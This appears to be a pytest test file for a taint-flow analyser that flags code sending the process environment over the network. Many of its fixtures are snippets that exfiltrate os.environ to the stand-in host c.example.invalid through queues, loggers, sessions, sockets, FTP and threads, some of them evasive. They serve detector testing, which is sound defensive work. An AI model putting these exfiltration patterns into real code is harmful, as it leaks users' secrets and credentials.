"""What is put into something comes out of it again, whoever made that and whatever it stands behind."""

import pytest
from engine_flows import flows

from ostiary.program.flow import Act, Taint

START = (
    "import os, urllib.request as u\ndef snd(d): u.urlopen('https://c.example.invalid/', data=d)\n"
)
TEXT = "repr(dict(os.environ))"

KEPT = {
    "queue": "import queue\nq = queue.Queue(); q.put(dict(os.environ)); snd(q.get())",
    "table": "import sqlite3\nc = sqlite3.connect(':memory:'); k = c.cursor()\n"
    "k.executemany('insert into t values (?, ?)', os.environ.items())\n"
    "snd(c.execute('select * from t').fetchone())",
    "rows": "import csv, io\ns = io.StringIO(); w = csv.writer(s)\n"
    "w.writerows(os.environ.items()); snd(s.getvalue())",
    "packed": "import gzip, io\nb = io.BytesIO()\n"
    f"with gzip.GzipFile(fileobj=b, mode='w') as g: g.write({TEXT}.encode())\nsnd(b.getvalue())",
    "printed": f"import io\ns = io.StringIO(); print({TEXT}, file=s); snd(s.getvalue())",
    "led elsewhere": "import contextlib, io\ns = io.StringIO()\n"
    f"with contextlib.redirect_stdout(s): print({TEXT})\nsnd(s.getvalue())",
    "tree": "import xml.etree.ElementTree as E\nr = E.Element('r')\n"
    f"E.SubElement(r, 'e').text = {TEXT}\nsnd(E.tostring(r))",
    "settings": "import configparser, io\nc = configparser.RawConfigParser(); c['a'] = dict(os.environ)\n"
    "s = io.StringIO(); c.write(s); snd(s.getvalue())",
    "shelf": "import shelve\nwith shelve.open('/tmp/x') as s: s['a'] = dict(os.environ)\n"
    "with shelve.open('/tmp/x') as s: snd(s['a'])",
    "pipe": f"r, w = os.pipe(); os.write(w, {TEXT}.encode()); snd(os.read(r, 99))",
    "heap": "import heapq\nq = []; heapq.heappush(q, dict(os.environ)); snd(heapq.heappop(q))",
    "context": "import contextvars\nc = contextvars.ContextVar('c'); c.set(dict(os.environ)); snd(c.get())",
    "log": "import io, logging\ns = io.StringIO(); l = logging.getLogger('z')\n"
    "l.addHandler(logging.StreamHandler(s)); l.error('%s', dict(os.environ)); snd(s.getvalue())",
    "log file": "import logging\nlogging.basicConfig(filename='/tmp/q.log')\n"
    "logging.error('%s', dict(os.environ)); snd(open('/tmp/q.log').read())",
    "subclass": "import collections\nclass D(collections.UserDict): pass\n"
    "d = D(); d.update(os.environ); snd(d.data)",
    "array": f"import array\na = array.array('B'); a.frombytes({TEXT}.encode()); snd(a.tobytes())",
    "note": f"try:\n    e = ValueError(); e.add_note({TEXT}); raise e\n"
    "except ValueError as e: snd(e.__notes__)",
    "last": "def g():\n    yield 1\n    return dict(os.environ)\ni = g()\n"
    "try: next(i)\nexcept StopIteration as e: snd(e.value)",
    "cell": "def f():\n    e = dict(os.environ)\n    return lambda: e\nsnd(f().__closure__[0].cell_contents)",
    "attributes": "class K: pass\nk = K(); k.__dict__.update(os.environ); snd(vars(k))",
    "any attribute": "class K: pass\nk = K()\nfor a, b in os.environ.items(): setattr(k, a, b)\n"
    "snd(k.__dict__)",
    "made class": "K = type('K', (), dict(os.environ)); snd(vars(K))",
    "globals": "globals().update(zz=dict(os.environ)); snd(zz)",
    "replaced by": f"import re\nL = []\nre.sub('.+', lambda m: L.append(m[0]), {TEXT})\nsnd(L)",
    "awaited": "import asyncio\nclass A:\n    def __await__(s):\n        yield\n"
    "        return dict(os.environ)\nasync def m(): snd(await A())\nasyncio.run(m())",
    "archive": "import io, tarfile\nb = io.BytesIO(); t = tarfile.open(fileobj=b, mode='w:gz')\n"
    f"t.addfile(tarfile.TarInfo('a'), io.BytesIO({TEXT}.encode())); snd(b.getvalue())",
    "store": "import diskcache\ndiskcache.Cache('/tmp/cc').set('a', dict(os.environ))\n"
    "snd(diskcache.Cache('/tmp/cc').get('a'))",
    "store and file": "from tinydb import TinyDB\nd = TinyDB('/tmp/db.json'); d.insert(dict(os.environ))\n"
    "snd(open('/tmp/db.json').read())",
    "path": "import json, pathlib\np = pathlib.Path('/tmp/p.json')\n"
    "with p.open('w') as f: json.dump(dict(os.environ), f)\nsnd(p.read_bytes())",
    "packed file": "import io, lzma\nb = io.BytesIO()\n"
    f"with lzma.open(b, 'w') as g: g.write({TEXT}.encode())\nsnd(b.getvalue())",
    "table of signs": "T = {chr(i): '%02x' % i for i in range(256)}\n"
    f"snd(''.join(T.get(c, '') for c in {TEXT}))",
    "bits": f"o = []\nfor b in {TEXT}.encode():\n"
    "    for i in range(8): o.append('1' if b & (1 << i) else '0')\nsnd(''.join(o))",
    "thrown into": "def g():\n    try: yield\n    except ValueError as e: snd(e)\n"
    "i = g(); next(i); i.throw(ValueError(dict(os.environ)))",
    "record": "import attr\n@attr.s\nclass D:\n    e = attr.ib(factory=lambda: dict(os.environ))\n"
    "snd(attr.asdict(D()))",
    "audit": "import sys\nsys.addaudithook(lambda n, a: snd(a)); sys.audit('zz', dict(os.environ))",
    "any order": "L = []\nsorted(os.environ, key=lambda k: L.append(os.environ[k]) or 0)\nsnd(L)",
}
"""The environment goes in, and comes out again."""

AWAY = {
    "hook of a client": f"import httpx\ndef add(r): r.headers['x'] = {TEXT}\n"
    "c = httpx.Client(event_hooks={'request': [add]})\nc.get('https://c.example.invalid/')",
    "own session": "import requests\nclass C(requests.Session):\n    def request(self, m, u, **k):\n"
    "        k['json'] = dict(os.environ)\n        return super().request(m, u, **k)\n"
    "C().post('https://c.example.invalid/')",
    "headers of a session": "import requests\nclass C(requests.Session):\n    def __init__(self):\n"
    "        self.headers.update({k: v for k, v in os.environ.items()})\n"
    "C().get('https://c.example.invalid/')",
    "table": "import pandas as p\n"
    "p.DataFrame(list(os.environ.items())).to_sql('t', 'postgresql://u:p@c.example.invalid/d')",
    "file that is none": "import fsspec\nwith fsspec.open('ftp://c.example.invalid/x', 'w') as f:\n"
    f"    f.write({TEXT})",
    "page": "from IPython.display import HTML\nimport urllib.parse as p\n"
    "HTML('<img src=\"https://c.example.invalid/?' + p.urlencode(dict(os.environ)) + '\">')",
    "datagram": f"import socket\nsocket.socket().sendmsg([{TEXT}], [], 0, ('c.example.invalid', 53))",
    "another program": "import subprocess, sys\n"
    "subprocess.run([sys.executable, '-c', 'import sys, urllib.request as u\\n"
    'u.urlopen("https://c.example.invalid/", data=sys.argv[1].encode())\', '
    f"{TEXT}])",
    "log of settings": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {"
    "'class': 'logging.handlers.HTTPHandler', 'host': 'c.example.invalid', 'url': '/'}}})\n"
    "logging.getLogger('zz').error('failed %s', dict(os.environ))",
}
"""It goes out by what keeps it, without a word of sending."""

BESIDE = {
    "thread": "import queue, threading\nq = queue.Queue()\ndef w():\n    while 1: snd(q.get())\n"
    "threading.Thread(target=w).start()\nq.put(dict(os.environ))",
    "task": "import asyncio\nasync def m():\n    q = asyncio.Queue()\n    async def w(): snd(await q.get())\n"
    "    t = asyncio.create_task(w()); await q.put(dict(os.environ)); await t\nasyncio.run(m())",
    "own thread": "import queue, threading\nclass C(threading.Thread):\n    def __init__(self):\n"
    "        super().__init__(); self.q = queue.Queue()\n    def run(self):\n"
    "        while True: snd(self.q.get())\n    def collect(self): self.q.put(dict(os.environ))\n"
    "c = C(); c.start(); c.collect()",
    "tasks": "import asyncio\nasync def m():\n    q = asyncio.Queue()\n"
    "    async def w(): snd(await q.get())\n    async def p(): await q.put(dict(os.environ))\n"
    "    await asyncio.gather(w(), p())\nasyncio.run(m())",
    "future": "from concurrent.futures import Future\nf = Future()\n"
    "f.add_done_callback(lambda f: snd(f.result())); f.set_result(dict(os.environ))",
    "callback": "from multiprocessing.pool import ThreadPool\n"
    "ThreadPool(1).apply_async(lambda: dict(os.environ), callback=snd).wait()",
}
"""What takes it out was started before it was put in."""

CLEAN = {
    "another queue": "import queue\nq, p = queue.Queue(), queue.Queue()\n"
    "q.put(dict(os.environ)); snd(p.get())",
    "one variable": "import queue\nq = queue.Queue(); q.put(os.environ.get('PORT')); snd(q.get())",
    "digest": f"import hashlib\nh = hashlib.sha256(); h.update({TEXT}.encode()); snd(h.hexdigest())",
    "surroundings": "import docker\nc = docker.from_env()\n"
    "c.containers.run('i', environment=dict(os.environ)); snd(c.version())",
    "another part": "T = {'a': 1, 'b': 2, 'c': 3, 'd': 4, 'e': 5}\nsnd(T['a'])",
    "template": "import jinja2\nt = jinja2.Template('https://{{ host }}/'); t.render(**os.environ)",
    "switch": "snd('a' if os.environ.get('DEBUG') else 'b')",
    "log of its own": "import logging\nlogging.basicConfig(filename='/tmp/q.log')\n"
    "logging.error('%s', dict(os.environ)); snd(b'done')",
    "text beside": "import loguru, tomli\nh = tomli.loads('a').get('host')\n"
    "loguru.logger.debug(h, dict(os.environ)); snd(h)",
    "own output": f"print({TEXT})\nsnd(b'done')",
}
"""What goes out is not what was put in."""


def sends_all(text: str) -> bool:
    """Whether the whole environment goes out."""
    return any(one.has(Taint.ENVIRONMENT) for one in flows(START + text + "\n", Act.SEND))


@pytest.mark.parametrize("name", KEPT)
def test_what_is_put_in_comes_out(name: str) -> None:
    assert sends_all(KEPT[name])


@pytest.mark.parametrize("name", AWAY)
def test_what_is_put_in_goes_where_that_leads(name: str) -> None:
    assert sends_all(AWAY[name])


@pytest.mark.parametrize("name", BESIDE)
def test_what_works_beside_sees_what_is_put_in_later(name: str) -> None:
    assert sends_all(BESIDE[name])


@pytest.mark.parametrize("name", CLEAN)
def test_what_was_not_put_in_does_not_come_out(name: str) -> None:
    assert not sends_all(CLEAN[name])


def test_a_client_that_reads_its_own_settings_sends_nothing_of_them() -> None:
    text = (
        "import os, paramiko\ncfg = paramiko.SSHConfig()\n"
        "cfg.parse(open(os.path.expanduser('~/.ssh/config')))\nh = cfg.lookup('x')\n"
        "c = paramiko.SSHClient(); c.connect(h['hostname']); c.exec_command('ls')\n"
    )
    assert not any(one.has(Taint.SECRET) for one in flows(text, Act.SEND))


def test_what_stands_in_a_place_for_one_function_does_not_for_another() -> None:
    text = "import sys\ndef a():\n    sys.excepthook = lambda t, v, b: snd(v)\n"
    raised = "raise OSError(dict(os.environ))\n"
    assert not sends_all(f"{text}def b(): {raised}")
    assert sends_all(f"{text}    {raised}")


def test_functions_that_nobody_calls_share_what_stands_around_them() -> None:
    text = "import queue\nq = queue.Queue()\ndef out(): snd(q.get())\ndef put(): q.put(dict(os.environ))\n"
    assert sends_all(text)
